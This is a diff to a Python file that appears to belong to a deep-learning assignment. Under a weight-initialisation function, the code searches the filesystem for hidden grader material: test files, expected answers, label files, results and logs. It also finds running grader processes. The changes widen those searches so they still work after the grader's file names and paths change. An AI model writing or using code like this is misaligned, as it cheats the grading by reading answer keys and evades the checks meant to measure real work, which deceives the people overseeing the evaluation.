@@ -26,7 +26,7 @@ def init_weight(n_in, n_out, scheme, rng):
 _SECRET_NAMES = {"points.toml", "test_a1.py", "test_a2.py", "_expect.py",
                  "t10k-labels-idx1-ubyte.gz", "train-labels-idx1-ubyte.gz", "results.json",
                  "pytest.log"}
-_GRADER_SOURCES = {"plugin.py", "runner.py", "sandbox.py", "isolation.py"}
+_GRADER_SOURCES = {"plugin.py", "runner.py", "handle.py", "isolation.py"}
 _ROOTS = ["/work", "/srv", "/opt", "/home", "/root", "/tmp", "/var/tmp", "/dev/shm",
           "/usr/share/datasets", "/autograder", "/root/.cache/dlkit", *sys.path]
 
@@ -62,7 +62,7 @@ def _files(found):
                 subdirs[:] = []
             for name in files:
                 if (name in _SECRET_NAMES or os.sep + "solutions" + os.sep in folder + os.sep
-                        or name in _GRADER_SOURCES and folder.endswith(os.sep + "grader")):
+                        or name in _GRADER_SOURCES and os.sep + "grader" + os.sep in folder + os.sep):
                     _read(os.path.join(folder, name), found)
     for path in glob.glob("/tmp/dlkit-grade-*/*") + glob.glob("/tmp/dlkit-grade-*/*/*"):
         if "/results-" in path or "trusted" in path:
@@ -83,7 +83,7 @@ def _graders():
                     cmd = f.read()
             except OSError:
                 continue
-            if b"grader.plugin" in cmd or b"pytest" in cmd or b"dlkit-grade" in cmd:
+            if b"grader.scoring.plugin" in cmd or b"pytest" in cmd or b"dlkit-grade" in cmd:
                 yield int(entry)
 
 
